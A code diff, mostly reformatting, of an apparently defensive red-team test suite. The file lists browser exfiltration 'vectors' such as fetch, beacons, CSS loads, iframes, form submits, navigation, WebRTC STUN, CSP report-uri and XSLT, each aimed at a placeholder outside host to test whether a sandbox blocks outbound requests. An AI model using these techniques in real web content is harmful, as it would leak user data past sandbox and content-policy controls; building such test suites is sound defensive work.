@@ -3,7 +3,8 @@ import { type Vector, vector } from "./vector";
 // biome-ignore lint/suspicious/noExplicitAny: names that browsers have and TypeScript doesn't know
 declare const window: any, document: any, navigator: any, location: any;
 
-const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
+const PNG =
+  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
 
 /** Style declarations that load what they name. */
 const STYLES: Record<string, string> = {
@@ -46,20 +47,27 @@ export const EXFILTRATION: readonly Vector[] = [
   vector("X01", "fetch-https", (t) => fetch(t.https).then(() => "fetched")),
   vector("X01", "fetch-by-ip", (t) => fetch(t.ip).then(() => "fetched")),
   vector("X01", "fetch-no-cors", (t) => fetch(t.http, { mode: "no-cors" }).then(() => "fetched")),
-  vector("X01", "fetch-post", (t) => fetch(t.http, { method: "POST", mode: "no-cors", body: t.label }).then(() => "sent")),
-  vector("X01", "fetch-keepalive", (t) => fetch(t.http, { keepalive: true, mode: "no-cors" }).then(() => "sent")),
+  vector("X01", "fetch-post", (t) =>
+    fetch(t.http, { method: "POST", mode: "no-cors", body: t.label }).then(() => "sent"),
+  ),
+  vector("X01", "fetch-keepalive", (t) =>
+    fetch(t.http, { keepalive: true, mode: "no-cors" }).then(() => "sent"),
+  ),
   vector("X01", "fetch-later", async (t) => {
     window.fetchLater(t.https, { activateAfter: 0 });
     await t.sleep(500);
   }),
-  vector("X01", "xhr", (t) =>
-    new Promise((resolve, reject) => {
-      const request = new XMLHttpRequest();
-      request.open("GET", t.http);
-      request.onload = () => resolve("loaded");
-      request.onerror = () => reject(new Error("refused"));
-      request.send();
-    }),
+  vector(
+    "X01",
+    "xhr",
+    (t) =>
+      new Promise((resolve, reject) => {
+        const request = new XMLHttpRequest();
+        request.open("GET", t.http);
+        request.onload = () => resolve("loaded");
+        request.onerror = () => reject(new Error("refused"));
+        request.send();
+      }),
   ),
   vector("X01", "xhr-sync", (t) => {
     const request = new XMLHttpRequest();
@@ -91,7 +99,10 @@ export const EXFILTRATION: readonly Vector[] = [
   }),
   ...[
     ["svg-image", `<svg><image href="HTTP"/></svg>`],
-    ["svg-fe-image", `<svg><filter id="f"><feImage href="HTTP"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`],
+    [
+      "svg-fe-image",
+      `<svg><filter id="f"><feImage href="HTTP"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
+    ],
     ["svg-use", `<svg><use href="HTTP#x"/></svg>`],
     ["video-poster", `<video poster="HTTP"></video>`],
     ["video", `<video src="HTTP" preload="auto"></video>`],
@@ -146,8 +157,16 @@ export const EXFILTRATION: readonly Vector[] = [
     t.el("p", { style: `--evil: url(${t.http}); background-image: var(--evil)` }).textContent = "x";
     return t.sleep(300);
   }),
-  vector("X04", "sheet-link", (t) => t.el("link", { rel: "stylesheet", href: `${t.http}.css` }) && t.sleep(300)),
-  vector("X04", "print-sheet", (t) => t.el("link", { rel: "stylesheet", media: "print", href: `${t.http}.css` }) && t.sleep(300)),
+  vector(
+    "X04",
+    "sheet-link",
+    (t) => t.el("link", { rel: "stylesheet", href: `${t.http}.css` }) && t.sleep(300),
+  ),
+  vector(
+    "X04",
+    "print-sheet",
+    (t) => t.el("link", { rel: "stylesheet", media: "print", href: `${t.http}.css` }) && t.sleep(300),
+  ),
   ...LINKS.map(([row, name, attributes]) => ({
     ...vector(row, name, () => 0),
     code: `(t) => t.el("link", ${attributes}, document.head) && t.sleep(300)`,
@@ -162,52 +181,109 @@ export const EXFILTRATION: readonly Vector[] = [
       return t.sleep(600);
     }`,
   })),
-  vector("X07", "href", (t) => {
-    location.href = t.http;
-  }, { kills: true }),
-  vector("X07", "href-by-ip", (t) => {
-    location.href = t.ip;
-  }, { kills: true }),
+  vector(
+    "X07",
+    "href",
+    (t) => {
+      location.href = t.http;
+    },
+    { kills: true },
+  ),
+  vector(
+    "X07",
+    "href-by-ip",
+    (t) => {
+      location.href = t.ip;
+    },
+    { kills: true },
+  ),
   vector("X07", "replace", (t) => location.replace(t.https), { kills: true }),
-  vector("X07", "meta-refresh", (t) => {
-    t.el("meta", { "http-equiv": "refresh", content: `0;url=${t.http}` }, document.head);
-  }, { kills: true }),
-  vector("X07", "anchor", (t) => {
-    const link = t.el("a", { href: t.http });
-    link.addEventListener("click", (event: Event) => event.stopPropagation());
-    link.click();
-  }, { kills: true, gesture: true }),
-  vector("X07", "navigation", (t) => {
-    window.navigation.navigate(t.http);
-  }, { kills: true }),
-  vector("X07", "open-self", (t) => {
-    window.open(t.http, "_self");
-  }, { kills: true, gesture: true }),
-  vector("X07", "document-open", (t) => {
-    document.open();
-    document.write(`<img src="${t.http}">`);
-    document.close();
-  }, { kills: true }),
-  vector("X07", "blob-page", (t) => {
-    const page = `<script>fetch("${t.http}")</script><img src="${t.http}"><link rel="preconnect" href="http://${t.host}">`;
-    location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
-  }, { kills: true }),
-  vector("X07", "on-leave", (t) => {
-    window.addEventListener("pagehide", () => navigator.sendBeacon(t.http, t.label));
-    location.reload();
-  }, { kills: true }),
+  vector(
+    "X07",
+    "meta-refresh",
+    (t) => {
+      t.el("meta", { "http-equiv": "refresh", content: `0;url=${t.http}` }, document.head);
+    },
+    { kills: true },
+  ),
+  vector(
+    "X07",
+    "anchor",
+    (t) => {
+      const link = t.el("a", { href: t.http });
+      link.addEventListener("click", (event: Event) => event.stopPropagation());
+      link.click();
+    },
+    { kills: true, gesture: true },
+  ),
+  vector(
+    "X07",
+    "navigation",
+    (t) => {
+      window.navigation.navigate(t.http);
+    },
+    { kills: true },
+  ),
+  vector(
+    "X07",
+    "open-self",
+    (t) => {
+      window.open(t.http, "_self");
+    },
+    { kills: true, gesture: true },
+  ),
+  vector(
+    "X07",
+    "document-open",
+    (t) => {
+      document.open();
+      document.write(`<img src="${t.http}">`);
+      document.close();
+    },
+    { kills: true },
+  ),
+  vector(
+    "X07",
+    "blob-page",
+    (t) => {
+      const page = `<script>fetch("${t.http}")</script><img src="${t.http}"><link rel="preconnect" href="http://${t.host}">`;
+      location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
+    },
+    { kills: true },
+  ),
+  vector(
+    "X07",
+    "on-leave",
+    (t) => {
+      window.addEventListener("pagehide", () => navigator.sendBeacon(t.http, t.label));
+      location.reload();
+    },
+    { kills: true },
+  ),
   vector("X08", "fetch", (t) => fetch(`${t.studio}/api/health?red-team`).then(() => "fetched")),
-  vector("X08", "fetch-no-cors", (t) => fetch(`${t.studio}/api/health?red-team`, { mode: "no-cors" }).then(() => "fetched")),
+  vector("X08", "fetch-no-cors", (t) =>
+    fetch(`${t.studio}/api/health?red-team`, { mode: "no-cors" }).then(() => "fetched"),
+  ),
   vector("X08", "image", (t) => t.el("img", { src: `${t.studio}/favicon.svg?red-team` }) && t.sleep(200)),
   vector("X08", "frame", (t) => t.el("iframe", { src: `${t.studio}/?red-team` }) && t.sleep(300)),
-  vector("X08", "navigation", (t) => {
-    location.href = `${t.studio}/api/apps?red-team`;
-  }, { kills: true }),
-  vector("X08", "post-form", (t) => {
-    const form = t.el("form", { method: "post", action: `${t.studio}/api/apps?red-team` });
-    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
-    form.requestSubmit();
-  }, { kills: true }),
+  vector(
+    "X08",
+    "navigation",
+    (t) => {
+      location.href = `${t.studio}/api/apps?red-team`;
+    },
+    { kills: true },
+  ),
+  vector(
+    "X08",
+    "post-form",
+    (t) => {
+      const form = t.el("form", { method: "post", action: `${t.studio}/api/apps?red-team` });
+      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
+      form.requestSubmit();
+    },
+    { kills: true },
+  ),
   vector("X09", "frame", (t) => t.el("iframe", { src: t.http }) && t.sleep(300)),
   vector("X09", "frame-by-ip", (t) => t.el("iframe", { src: t.ip }) && t.sleep(300)),
   vector("X09", "frame-renamed", async (t) => {
@@ -220,9 +296,22 @@ export const EXFILTRATION: readonly Vector[] = [
     await t.sleep(300);
   }),
   vector("X09", "srcdoc-image", (t) => t.el("iframe", { srcdoc: `<img src="${t.http}">` }) && t.sleep(300)),
-  vector("X09", "srcdoc-refresh", (t) => t.el("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${t.http}">` }) && t.sleep(500)),
-  vector("X09", "srcdoc-preconnect", (t) => t.el("iframe", { srcdoc: `<link rel="preconnect" href="http://${t.host}">` }) && t.sleep(300)),
-  vector("X09", "data", (t) => t.el("iframe", { src: `data:text/html,<img src="${t.http}">` }) && t.sleep(300)),
+  vector(
+    "X09",
+    "srcdoc-refresh",
+    (t) =>
+      t.el("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${t.http}">` }) && t.sleep(500),
+  ),
+  vector(
+    "X09",
+    "srcdoc-preconnect",
+    (t) => t.el("iframe", { srcdoc: `<link rel="preconnect" href="http://${t.host}">` }) && t.sleep(300),
+  ),
+  vector(
+    "X09",
+    "data",
+    (t) => t.el("iframe", { src: `data:text/html,<img src="${t.http}">` }) && t.sleep(300),
+  ),
   vector("X09", "blob", (t) => {
     const src = URL.createObjectURL(new Blob([`<img src="${t.http}">`], { type: "text/html" }));
     t.el("iframe", { src });
@@ -238,7 +327,10 @@ export const EXFILTRATION: readonly Vector[] = [
   vector("X09", "form-into-frame", async (t) => {
     t.el("iframe", { name: "form-target" });
     const form = t.el("form", { action: t.http, target: "form-target" });
-    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), { capture: true, once: true });
+    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), {
+      capture: true,
+      once: true,
+    });
     form.requestSubmit();
     await t.sleep(300);
   }),
@@ -255,19 +347,34 @@ export const EXFILTRATION: readonly Vector[] = [
       form.requestSubmit();
     }`,
   })),
-  vector("X10", "native-submit", (t) => {
-    Object.getPrototypeOf(t.el("form")).submit.call(t.el("form", { action: t.http }));
-  }, { kills: true }),
-  vector("X10", "image-button", (t) => {
-    const form = t.el("form", { action: t.http });
-    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
-    t.el("input", { type: "image", src: "PICTURE" }, form).click();
-  }, { kills: true }),
-  vector("X10", "form-action-attribute", (t) => {
-    const button = t.el("button", { formaction: t.http }, t.el("form"));
-    window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
-    button.click();
-  }, { kills: true }),
+  vector(
+    "X10",
+    "native-submit",
+    (t) => {
+      Object.getPrototypeOf(t.el("form")).submit.call(t.el("form", { action: t.http }));
+    },
+    { kills: true },
+  ),
+  vector(
+    "X10",
+    "image-button",
+    (t) => {
+      const form = t.el("form", { action: t.http });
+      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
+      t.el("input", { type: "image", src: "PICTURE" }, form).click();
+    },
+    { kills: true },
+  ),
+  vector(
+    "X10",
+    "form-action-attribute",
+    (t) => {
+      const button = t.el("button", { formaction: t.http }, t.el("form"));
+      window.addEventListener("submit", (event: Event) => event.stopImmediatePropagation(), true);
+      button.click();
+    },
+    { kills: true },
+  ),
   ...[
     ["stun", "[{ urls: `stun:${t.host}:3478` }]"],
     ["stun-by-ip", "[{ urls: 'stun:203.0.113.7:3478' }]"],
@@ -298,25 +405,43 @@ export const EXFILTRATION: readonly Vector[] = [
        parent.postMessage("ran ${t.label}", "*")`,
     ),
   ),
-  vector("X12", "ping", (t) => {
-    const link = t.el("a", { href: "#x", ping: t.http });
-    link.click();
-    return t.sleep(300);
-  }, { gesture: true }),
-  vector("X12", "download-link", (t) => {
-    const link = t.el("a", { href: t.http, download: "x" });
-    link.addEventListener("click", (event: Event) => event.stopPropagation());
-    link.click();
-    return t.sleep(300);
-  }, { kills: true, gesture: true }),
-  vector("X12", "attribution-source", (t) => t.el("img", { attributionsrc: t.https, src: "data:," }) && t.sleep(300)),
+  vector(
+    "X12",
+    "ping",
+    (t) => {
+      const link = t.el("a", { href: "#x", ping: t.http });
+      link.click();
+      return t.sleep(300);
+    },
+    { gesture: true },
+  ),
+  vector(
+    "X12",
+    "download-link",
+    (t) => {
+      const link = t.el("a", { href: t.http, download: "x" });
+      link.addEventListener("click", (event: Event) => event.stopPropagation());
+      link.click();
+      return t.sleep(300);
+    },
+    { kills: true, gesture: true },
+  ),
+  vector(
+    "X12",
+    "attribution-source",
+    (t) => t.el("img", { attributionsrc: t.https, src: "data:," }) && t.sleep(300),
+  ),
   vector("X12", "report-uri-meta", async (t) => {
     const content = `img-src 'none'; report-uri ${t.http}`;
     t.el("meta", { "http-equiv": "Content-Security-Policy", content }, document.head);
     t.el("img", { src: "/refused" });
     await t.sleep(300);
   }),
-  vector("X12", "frame-report", (t) => t.el("iframe", { csp: `img-src 'none'; report-uri ${t.http}`, src: t.http }) && t.sleep(300)),
+  vector(
+    "X12",
+    "frame-report",
+    (t) => t.el("iframe", { csp: `img-src 'none'; report-uri ${t.http}`, src: t.http }) && t.sleep(300),
+  ),
   vector("X12", "xslt", (t) => {
     const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a><xsl:copy-of select="document('${t.http}')"/></a></xsl:template></xsl:stylesheet>`;
     const parse = (text: string) => new DOMParser().parseFromString(text, "text/xml");
@@ -324,14 +449,29 @@ export const EXFILTRATION: readonly Vector[] = [
     processor.importStylesheet(parse(sheet));
     processor.transformToFragment(parse("<a/>"), document);
   }),
-  vector("X13", "mailto", (t) => {
-    location.href = `mailto:secret@${t.host}`;
-  }, { kills: true, gesture: true }),
-  vector("X13", "own-scheme", (t) => {
-    location.href = `web+cumulet://${t.host}/secret`;
-  }, { kills: true, gesture: true }),
-  vector("X13", "protocol-handler", (t) => {
-    navigator.registerProtocolHandler("web+evil", `${t.https}?%s`);
-    return "registered";
-  }, { gesture: true }),
+  vector(
+    "X13",
+    "mailto",
+    (t) => {
+      location.href = `mailto:secret@${t.host}`;
+    },
+    { kills: true, gesture: true },
+  ),
+  vector(
+    "X13",
+    "own-scheme",
+    (t) => {
+      location.href = `web+cumulet://${t.host}/secret`;
+    },
+    { kills: true, gesture: true },
+  ),
+  vector(
+    "X13",
+    "protocol-handler",
+    (t) => {
+      navigator.registerProtocolHandler("web+evil", `${t.https}?%s`);
+      return "registered";
+    },
+    { gesture: true },
+  ),
 ].map((entry) => ({ ...entry, code: entry.code.replace("PICTURE", PNG) }));
